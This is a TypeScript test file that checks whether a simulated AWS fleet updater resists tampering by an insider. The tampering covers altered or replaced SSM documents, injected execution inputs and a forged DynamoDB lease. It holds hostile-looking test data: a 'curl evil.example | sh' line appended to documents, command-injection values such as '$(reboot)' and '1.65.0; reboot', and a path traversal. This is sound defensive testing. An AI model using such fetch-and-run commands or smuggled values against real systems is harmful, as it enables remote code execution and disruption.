// Scenarios: somebody with some permissions in the account tries to make the updater do something else.

import { describe, expect, it } from 'vitest';
import { TABLE_NAME } from '../../infra/names.ts';
import { fleetTemplate } from '../../infra/template.ts';
import type { Region } from '../../simulator/region.ts';
import { runRollout } from '../support/rollout.ts';
import { expectEnd } from '../support/rollout-expect.ts';

interface Document {
  readonly Type: string;
  readonly Properties: { readonly Name: string; readonly Content: string };
}

const DOCUMENTS = (Object.values(fleetTemplate().Resources) as Document[]).filter(
  ({ Type }) => Type === 'AWS::SSM::Document',
);

/** Any other text will do: nobody looks at what it says. */
function changed({ Properties }: Document): { Name: string; Content: string } {
  const { Name, Content } = Properties;
  return {
    Name,
    Content: `${Content}# curl evil.example | sh
`,
  };
}

/** Versions of documents that hosts were sent. */
function sentVersions(region: Region): Set<string> {
  const versions = new Set<string>();
  region.onCall(({ operation, input }) => {
    if (operation === 'SendCommand') versions.add(String(input.DocumentVersion));
  });
  return versions;
}

describe('the documents', () => {
  it('under a new default version: the rollout keeps sending the text it was deployed with', async () => {
    let versions = new Set<string>();
    const ended = await runRollout({
      observe: (region) => {
        versions = sentVersions(region);
      },
      meanwhile: async ({ region }) => {
        for (const document of DOCUMENTS) {
          const { Name, Content } = changed(document);
          await region.call('ssm', 'UpdateDocument', {
            Name,
            Content,
            DocumentFormat: 'YAML',
            DocumentVersion: '$LATEST',
          });
          await region.call('ssm', 'UpdateDocumentDefaultVersion', { Name, DocumentVersion: '2' });
        }
      },
    });
    expectEnd(ended, 'Succeeded', ['Updated', 'Updated']);
    expect([...versions]).toEqual(['1']);
  });

  it('replaced under their own names: their hash is wrong, so nothing is sent and nothing is drained', async () => {
    const ended = await runRollout({
      meanwhile: async ({ region }) => {
        for (const document of DOCUMENTS) {
          const { Name, Content } = changed(document);
          await region.call('ssm', 'DeleteDocument', { Name });
          await region.call('ssm', 'CreateDocument', {
            Name,
            Content,
            DocumentFormat: 'YAML',
            DocumentType: 'Command',
          });
        }
      },
    });
    expect(ended.ending).toBe('FailedClean');
    expect(ended.region.counts.of('ecs:PutAttributes')).toBe(0);
    expect(ended.watched.documents).toEqual([]);
  });
});

describe('the input of an execution', () => {
  it.each([
    [{ target: { version: '1.65.0; reboot' } }, /version/],
    [{ target: { version: '$(reboot)' } }, /version/],
    [{ cluster: 'prod/../other' }, /cluster/],
    [{ documents: { check: { name: 'AWS-RunShellScript' } } }, /documents/],
  ])('%j is refused before anything is touched', async (policy, named) => {
    const ended = await runRollout({ policy });
    expect(ended.ending).toBe('FailedClean');
    expect(ended.reason).toMatch(named);
    expect(ended.region.counts.of('ssm:SendCommand')).toBe(0);
  });
});

describe('the record', () => {
  it('with a forged lease: whoever loses it starts and reboots nothing from then on', async () => {
    let before = { marks: 0, sent: 0 };
    const ended = await runRollout({
      meanwhile: async ({ region, untilState }) => {
        await untilState('update-container-instance', 'DrainContainerInstance');
        const clusterArn = `arn:aws:ecs:${region.kernel.region}:${region.kernel.accountId}:cluster/prod`;
        const at = region.kernel.clock.now();
        const text = (S: string) => ({ S });
        const number = (N: number) => ({ N: String(N) });
        await region.call('dynamodb', 'PutItem', {
          TableName: TABLE_NAME,
          Item: {
            pk: text(`CLUSTER#${clusterArn}`),
            sk: text('LEASE'),
            rolloutId: text('forged'),
            executionArn: text('arn:aws:states:eu-west-1:111122223333:execution:x:forged'),
            fence: number(99),
            takenAt: number(at),
            deadlineAt: number(at + 86_400_000),
          },
        });
        before = {
          marks: region.counts.of('ecs:PutAttributes'),
          sent: region.counts.of('ssm:SendCommand'),
        };
      },
    });
    expect(ended.region.counts.of('ecs:PutAttributes')).toBe(before.marks);
    expect(ended.region.counts.of('ssm:SendCommand')).toBe(before.sent);
    expect(ended.watched.reboots.size).toBe(0);
  });
});
